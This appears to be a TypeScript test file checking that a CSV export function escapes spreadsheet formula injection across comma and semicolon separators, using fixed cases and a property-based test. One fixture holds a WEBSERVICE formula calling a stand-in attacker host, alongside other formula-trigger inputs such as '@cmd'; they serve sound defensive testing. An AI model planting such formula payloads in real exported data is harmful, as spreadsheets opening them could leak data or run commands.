/** Tests that no cell of an export is a formula, whichever character a spreadsheet takes for the separator. */
import fc from '@sentinel-node/test-kit/properties';
import t from 'tap';
import { csvLine } from '../src/csv.ts';

/** Returns the cells as a spreadsheet reads them: a quote counts at the beginning of a cell only. */
function cellsOf(text: string, separator: ',' | ';'): string[] {
  const cells: string[] = [];
  for (let at = 0; at < text.length;) {
    let cell = '';
    if (text[at] === '"')
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[++at] !== '"') break;
        cell += text[at] ?? '';
      }
    for (; at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r'; at++)
      cell += text[at];
    cells.push(cell);
    at++;
  }
  return cells;
}

const isFormula = (cell: string): boolean => /^\t*[=+\-@]/.test(cell) && cell !== '-';

t.test('a formula after a comma or a line break is text where lists are separated by commas', async (t) => {
  for (const [cell, shown] of [
    ['x,=WEBSERVICE("https://evil.example/")', `"x,'=WEBSERVICE(""https://evil.example/"")"`],
    ['x,=1+1,', `x,'=1+1,`],
    ['x,,@cmd', `x,,'@cmd`],
    ['x,"=1+1"', `"x,""'=1+1"""`],
    ['two\n=1+1', `"two\n'=1+1"`],
    ['two\r\n-1', `"two\r\n'-1"`],
    ['x,\t=1', `x,\t'=1`],
    ['\t=1', `'\t=1`],
    ['one, two', 'one, two'],
    ['a=b,c', 'a=b,c'],
    ['["a","-b"]', `"[""a"",""'-b""]"`],
  ] as const)
    t.equal(csvLine(['id', cell]), `id;${shown}\r\n`);
});

t.test('no text makes a cell that a spreadsheet runs', async (t) => {
  const text = fc.string({ unit: fc.constantFrom(...',;"=+-@\t\r\nx '), maxLength: 12 });
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
      const line = csvLine(['id', ...cells]);
      return ([',', ';'] as const).every((separator) => !cellsOf(line, separator).some(isFormula));
    }),
    { numRuns: 5_000 },
  );
  t.pass();
});
